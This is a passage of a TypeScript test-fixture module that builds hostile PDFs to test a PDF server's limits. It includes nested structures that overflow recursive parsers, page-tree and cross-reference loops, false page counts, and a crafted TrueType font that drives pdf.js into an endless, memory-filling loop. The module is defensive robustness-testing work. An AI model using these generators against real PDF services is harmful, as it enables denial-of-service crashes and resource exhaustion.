    return `<< /Type /Pages${parent} /Kids [${kids.map((k) => `${k} 0 R`).join(" ")}] /Count ${count} >>`
  }
  // Media box and resources are inherited from the root.
  pdf.object(2, `<< /Type /Pages /Kids [${kidsOf.get(2)!.kids.map((k) => `${k} 0 R`).join(" ")}] /Count ${n} ${MEDIA_BOX} /Resources << /Font << /F1 3 0 R >> >> >>`)
  pdf.object(3, HELVETICA)
  pdf.stream(4, "", encode("BT /F1 24 Tf 72 720 Td (One of many pages) Tj ET\n"))
  for (let i = 0; i < n; i++) pdf.object(firstPage + i, `<< /Type /Page /Parent ${parentOf.get(firstPage + i)} 0 R /Contents 4 0 R >>`)
  for (let num = firstPage + n; num < next; num++) pdf.object(num, node(num))
  return pdf.finish("/Root 1 0 R")
}

/** Where `deepNesting` nests: an array or dictionary in the catalog, or the page tree itself. */
export type NestingKind = "array" | "dictionary" | "pageTree"

/**
 * A one-page PDF with a structure nested `depth` levels: arrays or dictionaries under the
 * catalog's /Deep key (a recursive parser overflows its stack), or a page tree whose single
 * page sits `depth` /Pages nodes down. Well-formed; qpdf itself refuses past about 500 levels.
 */
export const deepNesting = (depth: number, kind: NestingKind = "array"): Uint8Array => {
  if (kind === "pageTree") {
    const pdf = new RawPdf()
    // 1 catalog, 2 root, 3..depth+1 the chain of /Pages nodes, then the page and its content.
    const page = depth + 2
    pdf.object(1, "<< /Type /Catalog /Pages 2 0 R >>")
    for (let i = 0; i < depth; i++) {
      const num = 2 + i
      const kid = i === depth - 1 ? page : num + 1
      const parent = i === 0 ? "" : ` /Parent ${num - 1} 0 R`
      pdf.object(num, `<< /Type /Pages${parent} /Kids [${kid} 0 R] /Count 1${i === 0 ? ` ${MEDIA_BOX}` : ""} >>`)
    }
    pdf.object(page, `<< /Type /Page /Parent ${depth + 1} 0 R /Contents ${page + 1} 0 R >>`)
    pdf.stream(page + 1, "", encode("0 0 m 100 100 l S\n"))
    return pdf.finish("/Root 1 0 R")
  }
  const [open, close] = kind === "array" ? ["[", "]"] : ["<< /A ", " >>"]
  return onePage("BT /F1 12 Tf 72 720 Td (Deep) Tj ET\n", ` /Deep ${open.repeat(depth)}0${close.repeat(depth)}`)
}

/** A PDF whose page tree holds itself: the root's /Kids lists a page and the root again. Not well-formed. */
export const pageTreeCycle = (): Uint8Array => {
  const pdf = new RawPdf()
  pdf.object(1, "<< /Type /Catalog /Pages 2 0 R >>")
  pdf.object(2, `<< /Type /Pages /Kids [3 0 R 4 0 R] /Count 3 ${MEDIA_BOX} >>`)
  pdf.object(3, "<< /Type /Page /Parent 2 0 R >>")
  pdf.object(4, "<< /Type /Pages /Parent 2 0 R /Kids [2 0 R 3 0 R] /Count 2 >>")
  return pdf.finish("/Root 1 0 R")
}

/**
 * A two-page PDF whose cross-reference entries for both pages give another object's offset (bad
 * entries, as byte damage leaves them). Readers recover by scanning the file. pdf.js 6.x
 * prefetches every page of the tree's root while it looks for the first one, and when the first
 * fails it left the second's promise rejected with nobody waiting, which kills a Node process
 * with default settings (patched in patches/pdfjs-dist@*.patch).
 */
export const badPageReference = (): Uint8Array => {
  const pdf = new RawPdf()
  pdf.object(1, "<< /Type /Catalog /Pages 2 0 R >>")
  pdf.object(2, `<< /Type /Pages /Kids [3 0 R 4 0 R] /Count 2 ${MEDIA_BOX} >>`)
  pdf.object(3, "<< /Type /Page /Parent 2 0 R /Contents 5 0 R >>")
  pdf.object(4, "<< /Type /Page /Parent 2 0 R /Contents 5 0 R >>")
  pdf.stream(5, "", encode("BT /F1 12 Tf 72 720 Td (Page) Tj ET\n"))
  pdf.misplace(3, 5)
  pdf.misplace(4, 5)
  return pdf.finish("/Root 1 0 R")
}

/**
 * A one-page form whose widget names, as its page (/P), a page its parent does not list, beside
 * a kid that is no dictionary. pdf.js 6.x fetches the parent's kids while it looks for the page
 * and, when it is not there, gives up before it waits for them: the fetch of the bad kid was left
 * rejected with nobody waiting (patched in patches/pdfjs-dist@*.patch).
 */
export const orphanWidgetPage = (): Uint8Array => {
  const pdf = new RawPdf()
  pdf.object(1, "<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [4 0 R] >> >>")
  pdf.object(2, `<< /Type /Pages /Kids [3 0 R 5 0 R] /Count 1 ${MEDIA_BOX} >>`)
  pdf.object(3, "<< /Type /Page /Parent 2 0 R /Annots [4 0 R] >>")
  pdf.object(4, "<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /Rect [72 700 272 720] /P 6 0 R >>")
  pdf.object(5, "42")
  pdf.object(6, "<< /Type /Page /Parent 2 0 R >>")
  return pdf.finish("/Root 1 0 R")
}

/** A one-page PDF whose page tree claims `count` pages (a reader that trusts /Count allocates for them). */
export const pageCountLie = (count = 2 ** 31 - 1): Uint8Array => {
  const pdf = new RawPdf()
  pdf.object(1, "<< /Type /Catalog /Pages 2 0 R >>")
  pdf.object(2, `<< /Type /Pages /Kids [3 0 R] /Count ${count} ${MEDIA_BOX} >>`)
  pdf.object(3, "<< /Type /Page /Parent 2 0 R /Contents 4 0 R >>")
  pdf.stream(4, "", encode("0 0 m 100 100 l S\n"))
  return pdf.finish("/Root 1 0 R")
}

/**
 * A valid one-page PDF whose content draws one path of `segments` line segments at seeded
 * random places (100,000 by default, about 0.6 MB Flate-compressed): costly for anything that
 * looks at vector graphics, such as field detection.
 */
export const manyPathSegments = (segments = 100_000, seed = 1): Uint8Array => {
  const rng = random(seed)
  const lines: Array<string> = ["0.5 w", "306 396 m"]
  for (let i = 0; i < segments; i++) lines.push(`${rng.int(612)} ${rng.int(792)} l`)
  lines.push("S")
  const pdf = new RawPdf()
  pdf.object(1, "<< /Type /Catalog /Pages 2 0 R >>")
  pdf.object(2, "<< /Type /Pages /Kids [3 0 R] /Count 1 >>")
  pdf.object(3, `<< /Type /Page /Parent 2 0 R ${MEDIA_BOX} /Contents 4 0 R >>`)
  pdf.stream(4, "/Filter /FlateDecode", deflateSync(encode(lines.join("\n"))))
  return pdf.finish("/Root 1 0 R")
}

/**
 * A valid PDF form with `n` text fields, one widget each, spread over pages of 50 fields: legit
 * in shape, heavy in number (20,000 fields: about 3 MB).
 */
export const manyFields = (n = 20_000): Uint8Array => {
  const perPage = 50
  const pageCount = Math.ceil(n / perPage)
  const pdf = new RawPdf()
  // 1 catalog, 2 pages, 3 font, 4 acroform, 5.. pages, then the fields.
  const firstPage = 5
  const firstField = firstPage + pageCount
  pdf.object(1, "<< /Type /Catalog /Pages 2 0 R /AcroForm 4 0 R >>")
  pdf.object(2, `<< /Type /Pages /Kids [${Array.from({ length: pageCount }, (_, i) => `${firstPage + i} 0 R`).join(" ")}] /Count ${pageCount} ${MEDIA_BOX} >>`)
  pdf.object(3, HELVETICA)
  pdf.object(4, `<< /Fields [${Array.from({ length: n }, (_, i) => `${firstField + i} 0 R`).join(" ")}] /DA (/Helv 10 Tf 0 g) /DR << /Font << /Helv 3 0 R >> >> >>`)
  for (let p = 0; p < pageCount; p++) {
    const annots = Array.from({ length: Math.min(perPage, n - p * perPage) }, (_, i) => `${firstField + p * perPage + i} 0 R`)
    pdf.object(firstPage + p, `<< /Type /Page /Parent 2 0 R /Annots [${annots.join(" ")}] >>`)
  }
  for (let i = 0; i < n; i++) {
    const row = i % perPage
    const y = 760 - (row % 25) * 30
    const x = row < 25 ? 40 : 320
    pdf.object(firstField + i, `<< /Type /Annot /Subtype /Widget /FT /Tx /T (field_${i}) /Rect [${x} ${y - 18} ${x + 250} ${y}] /P ${firstPage + Math.floor(i / perPage)} 0 R /F 4 /DA (/Helv 10 Tf 0 g) >>`)
  }
  return pdf.finish("/Root 1 0 R")
}

/** A one-page PDF whose trailer's /Prev points back at its own cross-reference table: a loop. Not well-formed. */
export const xrefLoop = (): Uint8Array => {
  const pdf = new RawPdf()
  pdf.object(1, "<< /Type /Catalog /Pages 2 0 R >>")
  pdf.object(2, `<< /Type /Pages /Kids [3 0 R] /Count 1 ${MEDIA_BOX} >>`)
  pdf.object(3, "<< /Type /Page /Parent 2 0 R >>")
  return pdf.finish("/Root 1 0 R", { prev: "self" })
}

/** A one-page PDF whose content stream's /Length is an indirect reference to that stream itself. Not well-formed. */
export const selfReferentialLength = (): Uint8Array => {
  const content = "BT /F1 12 Tf 72 720 Td (Length loop) Tj ET"
  const pdf = new RawPdf()
  pdf.object(1, "<< /Type /Catalog /Pages 2 0 R >>")
  pdf.object(2, `<< /Type /Pages /Kids [3 0 R] /Count 1 ${MEDIA_BOX} >>`)
  pdf.object(3, "<< /Type /Page /Parent 2 0 R /Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R >>")
  pdf.object(4, HELVETICA)
  pdf.object(5, `<< /Length 5 0 R >>\nstream\n${content}\nendstream`)
  return pdf.finish("/Root 1 0 R")
}

/**
 * A minimal TrueType font (one empty glyph) whose `post` table (version 2, one custom glyph
 * name) declares a length far past the end of the font file. A reader that loops "while the
 * position is before the table's declared end" never gets there: pdf.js (6.x,
 * `readPostScriptTable`) keeps reading empty names at the end of the data until its heap is full.
 */
const postTableLoopFont = (): Uint8Array => {
  const u16 = (v: number) => [(v >>> 8) & 0xff, v & 0xff]
  const u32 = (v: number) => [(v >>> 24) & 0xff, (v >>> 16) & 0xff, (v >>> 8) & 0xff, v & 0xff]
  const head = [
    ...u32(0x00010000), ...u32(0x00010000), ...u32(0), ...u32(0x5f0f3cf5), ...u16(0), ...u16(1000),
    ...new Array(16).fill(0), ...u16(0), ...u16(0), ...u16(1000), ...u16(1000), ...u16(0), ...u16(8), ...u16(2), ...u16(0), ...u16(0)
  ]
  const hhea = [...u32(0x00010000), ...u16(800), ...u16(0xff38), ...u16(0), ...u16(500), ...new Array(22).fill(0), ...u16(1)]
  const maxp = [...u32(0x00005000), ...u16(1)]
  const hmtx = [...u16(500), ...u16(0)]
  const loca = [...u16(0), ...u16(0)]
  const post = [...u32(0x00020000), ...new Array(28).fill(0), ...u16(1), ...u16(258), 1, 0x61]
  const tables: Array<[string, Array<number>, number?]> = [
    ["head", head], ["hhea", hhea], ["hmtx", hmtx], ["loca", loca], ["maxp", maxp], ["post", post, 0x0fffffff]
  ]
  const directory = 12 + 16 * tables.length
  const out: Array<number> = [...u32(0x00010000), ...u16(tables.length), ...u16(64), ...u16(2), ...u16(32)]
  let offset = directory
  const bodies: Array<number> = []
  for (const [tag, data, declared] of tables) {
    out.push(...Array.from(tag, (c) => c.charCodeAt(0)), ...u32(0), ...u32(offset), ...u32(declared ?? data.length))
    bodies.push(...data)
    while (bodies.length % 4 !== 0 && tag !== "post") bodies.push(0)
    offset = directory + bodies.length
  }
  return Uint8Array.from([...out, ...bodies])
}

/**
 * A small one-page PDF whose text is set in an embedded TrueType font (/FontFile2) with a `post`
 * table that runs past the end of the font: reading the page's text makes pdf.js loop until its
 * heap is full (1.5 KB in, gigabytes out). Well-formed as a PDF; the font itself is the attack.
 */
export const fontPostTableLoop = (): Uint8Array => {
  const font = postTableLoopFont()
  const pdf = new RawPdf()
  pdf.object(1, "<< /Type /Catalog /Pages 2 0 R >>")
  pdf.object(2, `<< /Type /Pages /Kids [3 0 R] /Count 1 ${MEDIA_BOX} >>`)
  pdf.object(3, "<< /Type /Page /Parent 2 0 R /Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R >>")
  pdf.object(4, "<< /Type /Font /Subtype /TrueType /BaseFont /PostLoop /FirstChar 97 /LastChar 97 /Widths [500] /FontDescriptor 6 0 R >>")
  pdf.stream(5, "", encode("BT /F1 24 Tf 72 720 Td (a) Tj ET\n"))
  pdf.object(6, "<< /Type /FontDescriptor /FontName /PostLoop /Flags 32 /FontBBox [0 0 1000 1000] /ItalicAngle 0 /Ascent 800 /Descent -200 /CapHeight 700 /StemV 80 /FontFile2 7 0 R >>")
  pdf.stream(7, `/Length1 ${font.length}`, font)
  return pdf.finish("/Root 1 0 R")
}

// ---------------------------------------------------------------------------------------------
// The catalogue

/** One hostile document of the catalogue. */
export interface HostileCase {
  readonly name: string
  /** What it attacks, in a few words. */
  readonly attack: string
  /** Whether an independent reader (qpdf --check) should find it well-formed. */
  readonly wellFormed: boolean
  /**
   * Whether every default limit refuses it (a 422 on upload): past the stream, page or
   * memory limits. Otherwise it may as well be read (200) as refused; never a 5xx.
   */
  readonly overLimits: boolean
  /** Pages of the document, when it has more than one (a conversion may ask for a few of them). */
  readonly pages?: number | undefined
  readonly make: () => Uint8Array | Promise<Uint8Array>
}

/**
 * The hostile documents at attack size, each made on demand (the bombs take milliseconds and
 * about 1 MB each). What a server with the default limits (2,000 pages, 256 MiB per stream)
 * should withstand.
 */
export const catalogue: ReadonlyArray<HostileCase> = [
  { name: "object-stream bomb (512 MiB)", attack: "an /ObjStm that inflates to 512 MiB", wellFormed: true, overLimits: true, make: () => objectStreamBomb(512 * MiB) },
  { name: "content-stream bomb (1 GiB whitespace)", attack: "a page content stream that inflates to 1 GiB", wellFormed: true, overLimits: true, make: () => contentStreamBomb(1024 * MiB, "whitespace") },
  { name: "content-stream bomb (250 MiB of q Q)", attack: "125 million operators, past the content-stream limit", wellFormed: true, overLimits: true, make: () => contentStreamBomb(250 * MiB, "operators") },
  { name: "content-stream bomb (15 MiB of q Q)", attack: "7.5 million operators, just under the content-stream limit", wellFormed: true, overLimits: false, make: () => contentStreamBomb(15 * MiB, "operators") },
  { name: "image bomb (16000 x 16000)", attack: "a 244 MiB image, under the stream limit, to render", wellFormed: true, overLimits: false, make: () => imageBomb(16_000, 16_000) },
  { name: "text bomb (10^7 text items)", attack: "nested form XObjects, fan-out 10, depth 7", wellFormed: true, overLimits: false, make: () => textBomb() },
  { name: "font post-table loop", attack: "an embedded TrueType font that sends pdf.js into an endless, allocating loop", wellFormed: true, overLimits: true, make: () => fontPostTableLoop() },
  { name: "100,000 pages", attack: "a page count far past the limit", wellFormed: true, overLimits: true, pages: 100_000, make: () => manyPages(100_000) },
  { name: "16,384 pages", attack: "a page count past the limit", wellFormed: true, overLimits: true, pages: 16_384, make: () => manyPages(16_384) },
  { name: "page-count lie (2^31-1)", attack: "/Count 2147483647 over one page", wellFormed: false, overLimits: false, make: () => pageCountLie() },
  { name: "bad page reference", attack: "a cross-reference entry that points at another page", wellFormed: false, overLimits: false, pages: 2, make: () => badPageReference() },
  { name: "orphan widget page", attack: "a widget whose page its parent does not list, beside a kid that is no dictionary", wellFormed: false, overLimits: false, make: () => orphanWidgetPage() },
  { name: "page-tree cycle", attack: "/Kids that hold their own ancestor", wellFormed: false, overLimits: false, make: () => pageTreeCycle() },
  { name: "nested arrays (100,000 deep)", attack: "a recursive parser's stack", wellFormed: false, overLimits: false, make: () => deepNesting(100_000, "array") },
  { name: "nested dictionaries (100,000 deep)", attack: "a recursive parser's stack", wellFormed: false, overLimits: false, make: () => deepNesting(100_000, "dictionary") },
  { name: "page tree 10,000 deep", attack: "a recursive page-tree walk", wellFormed: true, overLimits: false, make: () => deepNesting(10_000, "pageTree") },
  { name: "100,000 path segments", attack: "vector-graphics analysis of one page", wellFormed: true, overLimits: false, make: () => manyPathSegments(100_000) },
  { name: "20,000 fields", attack: "a form with very many fields, past the field limit", wellFormed: true, overLimits: true, pages: 400, make: () => manyFields(20_000) },
  { name: "5,000 fields", attack: "a form with as many fields as allowed", wellFormed: true, overLimits: false, pages: 100, make: () => manyFields(5_000) },
  { name: "xref /Prev loop", attack: "a cross-reference chain that points at itself", wellFormed: false, overLimits: false, make: () => xrefLoop() },
  { name: "self-referential /Length", attack: "a stream length that is the stream", wellFormed: false, overLimits: false, make: () => selfReferentialLength() }
]
